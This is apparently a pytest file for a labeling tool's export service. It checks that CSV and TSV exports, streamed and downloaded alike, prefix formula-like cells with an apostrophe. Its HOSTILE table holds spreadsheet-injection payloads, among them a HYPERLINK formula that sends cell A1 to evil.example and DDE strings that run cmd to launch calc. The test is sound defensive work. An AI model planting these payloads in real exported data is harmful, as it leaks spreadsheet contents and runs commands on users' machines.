"""CSV/TSV cells a spreadsheet would run as formulas are written as text (issue 21), in the
streamed export and in a snapshot's download alike; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from export_svc.exports import jobs
from export_svc.formats import ExportContext, find_format
from labelops_common.labelconfig import parse_label_config

from .conftest import Cast, Seeder, Stack

CONFIG = parse_label_config(
    '<View><Text name="text" value="$text"/><Choices name="sentiment" toName="text">'
    '<Choice value="Positive"/></Choices></View>'
)
CONTEXT = ExportContext(project_id=1, parsed=CONFIG.parsed_label_config())

#: Task data an importer controls, and what the exported cell must read.
HOSTILE = {
    "text": ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK("),
    "cmd": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    "plus": ("+1", "'+1"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "tab": ("\t=1", "'\t=1"),
    "cr": ("\r=1", "'\r=1"),
    "minus_text": ("-2+3", "'-2+3"),
    "plain": ("hello = world", "hello = world"),
}
DATA: dict[str, Any] = {name: value for name, (value, _) in HOSTILE.items()}
DATA |= {"negative": -5, "negative_float": -2.5, "=header": "x"}


def task(data: dict[str, Any]) -> dict[str, Any]:
    return {
        "id": 7,
        "data": data,
        "annotations": [
            {
                "id": 70,
                "completed_by": 1,
                "result": [
                    {
                        "from_name": "sentiment",
                        "to_name": "text",
                        "type": "choices",
                        "value": {"choices": ["Positive"]},
                    }
                ],
                "was_cancelled": False,
                "ground_truth": False,
                "created_at": "2026-11-22T10:29:53.065895Z",
                "updated_at": "2026-11-22T10:29:53.065899Z",
                "lead_time": -1.5,
            }
        ],
    }


def assert_neutralized(text: str, delimiter: str) -> None:
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert "'=header" in header and "=header" not in header
    (row,) = rows
    cells = dict(zip(header, row, strict=True))
    for name, (_, expected) in HOSTILE.items():
        assert cells[name].startswith(expected), (name, cells[name])
    # Numbers are written as numbers (unquoted under QUOTE_NONNUMERIC), never prefixed.
    assert cells["negative"] == "-5" and cells["negative_float"] == "-2.5"
    assert cells["lead_time"] == "-1.5"
    lines = text.split("\r\n")
    assert f"{delimiter}-5{delimiter}" in lines[1] and f"{delimiter}-1.5{delimiter}" in lines[1]


@pytest.mark.parametrize(("name", "delimiter"), [("CSV", ","), ("TSV", "\t")])
def test_the_writer_neutralizes_formula_cells(name: str, delimiter: str) -> None:
    export_format = find_format(name)
    assert export_format is not None
    text = b"".join(export_format.write([task(DATA)], CONTEXT)).decode()
    assert_neutralized(text, delimiter)


CHOICES_CONFIG = """
<View>
  <Text name="text" value="$text"/>
  <Choices name="sentiment" toName="text"><Choice value="Positive"/></Choices>
</View>
"""


def test_streamed_and_snapshot_exports_neutralize_formula_cells(
    stack: Stack, cast: Cast, seeder: Seeder, sent: list[tuple[str, int]]
) -> None:
    project_id = seeder.project(CHOICES_CONFIG)
    (task_id,) = seeder.tasks(project_id, [DATA])
    seeder.annotate(
        task_id,
        [
            {
                "from_name": "sentiment",
                "to_name": "text",
                "type": "choices",
                "value": {"choices": ["Positive"]},
            }
        ],
        lead_time=-1.5,
    )
    for name, delimiter in (("CSV", ","), ("TSV", "\t")):
        streamed = stack.export.get(
            f"/api/projects/{project_id}/export",
            params={"exportType": name},
            headers=cast.owner.headers,
        )
        assert streamed.status_code == 200, streamed.text
        assert_neutralized(streamed.text, delimiter)

    created = stack.export.post(
        f"/api/projects/{project_id}/exports/", json={}, headers=cast.owner.headers
    )
    assert created.status_code == 201, created.text
    export_id = created.json()["id"]
    assert jobs.write_snapshot.run(export_id) == "succeeded"
    for name, delimiter in (("CSV", ","), ("TSV", "\t")):
        downloaded = stack.export.get(
            f"/api/projects/{project_id}/exports/{export_id}/download",
            params={"exportType": name},
            headers=cast.owner.headers,
        )
        assert downloaded.status_code == 200, downloaded.text
        assert_neutralized(downloaded.text, delimiter)
